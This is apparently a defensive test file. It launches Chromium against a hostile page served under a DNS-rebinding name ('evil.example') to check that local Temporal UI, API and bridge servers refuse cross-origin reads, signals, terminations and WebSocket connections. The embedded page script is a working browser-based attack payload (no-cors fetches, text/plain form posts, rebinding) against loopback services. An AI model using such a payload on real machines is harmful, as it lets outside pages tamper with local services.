import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Client } from '@temporalio/client';
import { freePort, isReachable } from '../../setup/port-state.js';
import { obtainTemporal } from '../../setup/temporal-binary.js';
import { LoopbackDoor } from '../../shared/node/http/loopback-door.js';
import { connectClient } from '../../temporal/client.js';
import { serverArguments } from '../../temporal/server.js';
import { Rig } from '../bridge/rig.js';
import { Chromium, findChromium } from './chromium.js';
import { ReboundName } from './rebound-name.js';

const VICTIM = 'ship-victim';
const API = '/api/v1/namespaces/believe';
const SIGNAL = `${API}/workflows/${encodeURIComponent(VICTIM)}/signal/decide`;
const READS = ['/', '/status', '/metrics', `${API}/workflows`, '/api/v1/settings'];
const WRITES = [SIGNAL, `${API}/workflows/${encodeURIComponent(VICTIM)}/terminate`, `${API}/batch-operations/x`];

interface Seen {
  readonly from: string;
  readonly asked: string;
  /** Null where the browser refused it, or the connection was cut. */
  readonly status: number | null;
}

/** Tries everything that a page can do to servers of this machine, and reports what it saw. */
const pageAgainst = (targets: readonly string[], frames: readonly string[], tellAt: string) => `<!doctype html><body>
${frames.map((url) => `<iframe src="${url}"></iframe>`).join('')}
<form id="form" method="post" enctype="text/plain" target="hole"><input name="input" value="{}"></form><iframe name="hole"></iframe>
<script>
const seen = [];
const body = JSON.stringify({ input: [{ verdict: 'reject', by: 'mallory', reason: 'why not' }] });
const ask = async (url, options) => {
  const status = await fetch(url, { signal: AbortSignal.timeout(5000), ...options }).then((answer) => answer.status || null, () => null);
  seen.push({ from: location.origin, asked: (options.method ?? 'GET') + ' ' + url, status });
};
const webSocket = (url) => new Promise((resolve) => {
  const socket = new WebSocket(url.replace('http', 'ws'));
  const end = (status) => { seen.push({ from: location.origin, asked: 'WS ' + url, status }); resolve(); };
  socket.onopen = () => end(101);
  socket.onerror = () => end(null);
  setTimeout(() => end(null), 5000);
});
(async () => {
  for (const target of ${JSON.stringify(targets)}) {
    const isOwn = target === '' || target === location.origin;
    const mode = isOwn ? {} : { mode: 'no-cors', credentials: 'include' };
    for (const place of ${JSON.stringify(READS)}) await ask(target + place, { ...mode });
    for (const place of ${JSON.stringify(WRITES)}) {
      await ask(target + place, { ...mode, method: 'POST', body, headers: { 'content-type': 'text/plain' } });
      if (isOwn) await ask(target + place, { method: 'POST', body, headers: { 'content-type': 'application/json' } });
      const form = document.getElementById('form');
      form.action = target + place;
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    await webSocket((target || location.origin) + '/');
  }
  await fetch('${tellAt}/attack/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
})();
</script>`;

/** The default set-up's servers that a browser can reach, and a page of anybody's, in a real browser. */
describe('attack: a web page in Chromium, against everything that listens on loopback', function () {
  this.timeout(180_000);
  const folder = mkdtempSync(path.join(tmpdir(), 'believe-page-'));
  let server: ChildProcess | undefined;
  let door: LoopbackDoor | undefined;
  let rig: Rig | undefined;
  let client: Client | undefined;
  let browser: Chromium | undefined;
  const names: ReboundName[] = [];
  const ports: Record<string, number> = {};
  let rebound: Seen[] = [];
  let foreign: Seen[] = [];

  before(async function () {
    const found = await findChromium();
    if ('missing' in found) {
      if (process.env.CI) throw new Error(found.missing);
      process.stderr.write(`${found.missing}\n`);
      return this.skip();
    }
    for (const name of ['grpc', 'innerUi', 'ui', 'api', 'bridge']) ports[name] = await freePort();
    await startServers();
    const pages = ['ui', 'api', 'bridge'] as const;
    const all = ['ui', 'api', 'bridge', 'grpc'].map((name) => `http://127.0.0.1:${ports[name]}`);
    const frames = pages.map((name) => `http://evil.example:${ports[name]}/attack`);
    const outer = await ReboundName.open((own) => pageAgainst(all, frames, own), null);
    names.push(outer);
    const resolved = new Map<string, string>();
    for (const name of pages) {
      const rebinding = await ReboundName.open(() => pageAgainst([''], [], outer.origin), ports[name]!);
      names.push(rebinding);
      resolved.set(`evil.example:${ports[name]}`, `127.0.0.1:${rebinding.port}`);
    }
    browser = new Chromium(found.program, `${outer.origin}/attack`, resolved);
    const deadlineMs = Date.now() + 120_000;
    while (outer.reports.length < 1 + pages.length) {
      assert.ok(Date.now() < deadlineMs, `${outer.reports.length} pages have reported`);
      await sleep(200);
    }
    const seen = outer.reports.flat() as Seen[];
    foreign = seen.filter(({ from }) => from === outer.origin);
    rebound = seen.filter(({ from }) => from !== outer.origin);
  });

  after(async () => {
    await browser?.close();
    for (const name of names) name.close();
    await client?.connection.close();
    await door?.close();
    await rig?.end();
    if (server) {
      const gone = new Promise((resolve) => server?.once('exit', resolve));
      server.kill('SIGTERM');
      await gone;
    }
    rmSync(folder, { recursive: true, force: true });
  });

  async function startServers(): Promise<void> {
    const { path: temporal } = await obtainTemporal();
    const args = serverArguments({ namespace: 'believe', port: ports.grpc!, uiPort: ports.innerUi!, folder });
    server = spawn(temporal, [...args, '--http-port', String(ports.api)], { stdio: 'ignore' });
    while (!(await isReachable('127.0.0.1', ports.innerUi!))) await sleep(100);
    door = await LoopbackDoor.open({
      ...{ port: ports.ui!, behindPort: ports.innerUi!, purpose: 'the Web UI', field: 'temporal.uiPort' },
    });
    client = await connectClient({ address: `127.0.0.1:${ports.grpc}`, namespace: 'believe' });
    await client.workflow.start('shipModel', { workflowId: VICTIM, taskQueue: 'nobody-polls', args: [{}] });
    rig = await Rig.start({ config: { metrics: { bridgePort: ports.bridge! } } });
    await rig.startBridge();
  }

  it('under a name of his that he leads to this machine: every request is refused, and nothing can be read', () => {
    assert.ok(rebound.length >= 3 * (READS.length + 2 * WRITES.length + 1), `${rebound.length} attempts`);
    assert.ok(rebound.every(({ from }) => from.startsWith('http://evil.example:')));
    // 404: the server has nothing of that name, for nobody.
    assert.deepEqual(
      rebound.filter(({ status }) => ![403, 404, null].includes(status)),
      [],
    );
    const known = rebound.filter(({ asked }) => asked.endsWith(`${API}/workflows`) || asked.endsWith(SIGNAL));
    assert.deepEqual(
      known.filter(({ status }) => status !== 403),
      [],
    );
  });

  it('from another port of this machine: nothing can be read', () => {
    assert.ok(foreign.length >= 4 * (READS.length + WRITES.length + 1), `${foreign.length} attempts`);
    assert.deepEqual(
      foreign.filter(({ status }) => status !== null),
      [],
    );
  });

  it('and nobody was signalled, started or stopped', async () => {
    const { events } = await client!.workflow.getHandle(VICTIM).fetchHistory();
    assert.deepEqual(
      events?.map(({ eventType }) => eventType),
      [1, 5],
      'started, and a task scheduled that nobody polls for',
    );
    const all = [];
    for await (const { workflowId } of client!.workflow.list()) all.push(workflowId);
    assert.deepEqual(all, [VICTIM]);
  });

  it('while people reach the Web UI and the status by the names of this machine', async () => {
    for (const name of ['127.0.0.1', 'localhost']) {
      const ui = await fetch(`http://${name}:${ports.ui}${API}/workflows`);
      assert.equal(ui.status, 200, name);
      assert.match(await ui.text(), /ship-victim/);
      assert.equal((await fetch(`http://${name}:${ports.bridge}/status`)).status, 200, name);
    }
  });
});
